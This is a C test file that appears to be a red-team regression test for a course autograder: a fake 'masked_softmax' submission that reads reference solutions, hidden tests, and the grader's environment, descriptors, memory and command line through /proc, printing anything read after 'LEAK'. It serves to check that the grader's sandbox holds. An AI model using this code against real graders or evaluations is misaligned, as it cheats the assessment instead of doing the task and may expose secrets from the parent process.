/* Attack 9 (issue 15): read what the grader can read and print it into a visible test's
 * output: $GRADE_ROOT/solutions/... and hidden tests' sources (the old guide's Gradescope
 * setup was a full checkout), the grader's working directory and descriptors through
 * /proc/<ppid>, and the reference runner named on its command line. Anything read is printed
 * after "LEAK". Expected: nothing is read (no $GRADE_ROOT any more, the grader's /proc
 * entries are closed to runners, and as root the runner is user nobody while grading.sh keeps
 * the reference in a mode-0700 directory); 0/95 and no "LEAK" in results.json. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "lab02/lab02.h"

#include "../../common/exercise.h"

static void try_read(const char *path) {
  char buf[256];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return;
  buf[n] = '\0';
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == '\0') buf[i] = '.';
  printf("LEAK %s: %s\n", path, buf);
}

static int parent_pid(void) {
  char buf[512] = "";
  int fd = open("/proc/self/stat", O_RDONLY), ppid = 0;
  if (fd >= 0) {
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0) buf[n] = '\0';
  }
  const char *p = strrchr(buf, ')');
  if (p) sscanf(p + 2, "%*c %d", &ppid);
  return ppid;
}

Tensor *masked_softmax(Tensor *X, Tensor *valid_lens) {
  (void)X, (void)valid_lens;
  char path[8192];
  const char *root = getenv("GRADE_ROOT");
  if (root) {
    snprintf(path, sizeof path, "%s/solutions/lab02/masked_softmax.c", root);
    try_read(path);
  }
  int pp = parent_pid();
  const char *rel[] = {"cwd/solutions/lab02/masked_softmax.c", "cwd/tests/hidden/README.md",
                       "environ", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "exe", "mem"};
  for (size_t i = 0; i < sizeof rel / sizeof *rel; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pp, rel[i]);
    try_read(path);
  }
  /* the reference runner's directory, from the grader's command line */
  char cmd[8192];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pp);
  int fd = open(path, O_RDONLY);
  ssize_t len = fd >= 0 ? read(fd, cmd, sizeof cmd - 1) : 0;
  if (fd >= 0) close(fd);
  for (ssize_t i = 0; i < len;) {
    const char *arg = cmd + i;
    size_t l = strnlen(arg, (size_t)(len - i));
    if (!strcmp(arg, "--reference") && i + (ssize_t)l + 1 < len) {
      snprintf(path, sizeof path, "%s/grade-run", arg + l + 1);
      try_read(path);
      snprintf(path, sizeof path, "%s/../../solutions/lab02/masked_softmax.c", arg + l + 1);
      try_read(path);
    }
    i += (ssize_t)l + 1;
  }
  EXERCISE_TODO("2.1", "masked_softmax");
  return NULL;
}
